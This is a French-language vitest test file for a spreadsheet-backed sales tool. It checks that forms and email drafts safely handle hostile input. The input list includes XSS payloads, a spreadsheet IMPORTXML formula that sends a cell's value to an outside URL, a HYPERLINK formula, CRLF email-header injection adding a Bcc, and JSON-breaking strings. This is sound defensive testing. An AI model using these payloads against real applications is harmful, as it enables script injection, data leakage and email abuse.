import { describe, expect, it } from 'vitest';
import { unClient, uneAffaire, unDevis } from '../support/monde';
import { Bureau, champDe, envoiDe, formulaireDe, type Personne } from './bureau';

/** Ce que quelqu'un peut taper ou coller, exprès ou non. */
const HOSTILES = [
  ['une balise', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['une fin de balise', '</script><!-- ]]> {{etat}} __ETAT__ $& $1'],
  ['une formule', '=IMPORTXML("https://exemple.fr?"&A1,"//a")'],
  ['une formule à plus', '+HYPERLINK("https://exemple.fr","cliquez")'],
  ['un retour à la ligne', 'Audit\r\nBcc: tous@exemple.fr\r\n\r\nBonjour'],
  ['50 000 caractères', 'é'.repeat(50_000)],
  ['des émojis', '👩‍👩‍👧 Étude 🏗️ \ud83d'],
  ['de droite à gauche', '\u202eDEVIS مرحبا עולם\u202c'],
  ['une variable de modèle', '{contact} {inconnue} {'],
  ['des commandes', 'A\u0000B\u0007C\u2028D'],
  ['du JSON', '","action":"x","valeurs":{"a":"'],
] as const;

/** Une page qui porte ce texte n'a que ses deux scripts, et son état se relit. */
function pageSure(p: Personne): void {
  const html = p.hote.panneau?.html ?? '';
  expect(html.match(/<script/gi)).toHaveLength(2);
  expect(html.match(/<\/script/gi)).toHaveLength(2);
  expect(html).not.toContain('<img');
}

describe.each(HOSTILES)('%s', (_, texte) => {
  it('dans chaque champ de texte : refusé en clair, ou gardé comme du texte', () => {
    const b = new Bureau({
      clients: [unClient()],
      affaires: [uneAffaire()],
      devis: [unDevis('Envoyé')],
    });
    const p = b.personne();
    const formulaires = [
      p.menu('nouvelleAffaire', 'clients', 2),
      p.menu('nouveauDevis', 'affaires', 2),
      p.menu('goNoGo', 'affaires', 2),
      p.menu('actionCommerciale', 'devis', 2),
      p.menu('refuserDevis', 'devis', 2),
      p.menu('annulerDevis', 'devis', 2),
    ];
    for (const panneau of formulaires) {
      for (const champ of formulaireDe(panneau).champs) {
        const avant = JSON.stringify(b.lire().tables);
        const reponse = p.envoyerTexte(
          JSON.stringify({
            ...envoiDe(panneau, {
              objet: 'Audit',
              type: 'Appel',
              motif: 'Prix',
              [champ.cle]: texte,
            }),
            jeton: jetonNeuf(),
          }),
        );
        const apres = JSON.stringify(b.lire().tables);
        if (reponse.ok) expect(apres).not.toBe(avant);
        else {
          expect(apres, champ.cle).toBe(avant);
          expect(reponse.message.length, champ.cle).toBeGreaterThan(10);
          expect(JSON.stringify(reponse.champs).length).toBeLessThan(2000);
        }
      }
    }
    // Aucune formule n'est née : tout ce qui est tapé est resté du texte.
    const json = JSON.stringify(b.classeur.emulateur.instantane(b.classeur.id));
    expect(json).not.toMatch(/"formulaValue":"[=+]?(IMPORTXML|HYPERLINK\(\\"https)/);
    // Et chaque panneau qui le remontre est une page sûre.
    for (const fonction of ['nouvelleAffaire', 'actionCommerciale', 'preparerRevue', 'controler']) {
      p.menu(fonction);
      pageSure(p);
    }
  });

  it('dans le classeur, puis dans un brouillon : un message aux en-têtes intacts', () => {
    const b = new Bureau({
      clients: [unClient({ contact: texte.slice(0, 30_000) })],
      affaires: [uneAffaire()],
      devis: [unDevis('Envoyé', { objet: texte.slice(0, 30_000) })],
    });
    const p = b.personne('camille@exemple.fr');
    const panneau = p.menu('preparerRelances');
    pageSure(p);
    if (panneau.vue.sorte === 'resultat') return;
    expect(p.envoyer(panneau).ok).toBe(true);
    const [brouillon] = p.hote.brouillons;
    const entetes = (brouillon?.mime.split('\r\n\r\n')[0] ?? '').split(/\r\n(?![ \t])/);
    expect(entetes.map((e) => e.split(':')[0])).toEqual([
      'Date',
      'To',
      'Message-ID',
      'Subject',
      'MIME-Version',
      'Content-Type',
      'Content-Transfer-Encoding',
    ]);
    expect(entetes.every((e) => e.split('\r\n').every((l) => l.length <= 76))).toBe(true);
  });
});

let rang = 0;
const jetonNeuf = (): string => (++rang).toString(16).padStart(8, '0').padEnd(32, 'f');

describe('un nom de client hostile', () => {
  it('est proposé, choisi et retrouvé tel quel', () => {
    const nom = '<b>« Ets » & Fils</b> \u202e😀';
    const b = new Bureau({ clients: [unClient({ organisation: nom })] });
    const p = b.personne();
    const panneau = p.menu('nouvelleAffaire', 'clients', 2);
    expect(champDe(panneau, 'client')).toMatchObject({ valeur: nom, suggestions: [nom] });
    pageSure(p);
    expect(p.envoyer(panneau, { objet: 'Audit' }).ok).toBe(true);
    expect(b.lire().tables.clients).toHaveLength(1);
  });
});
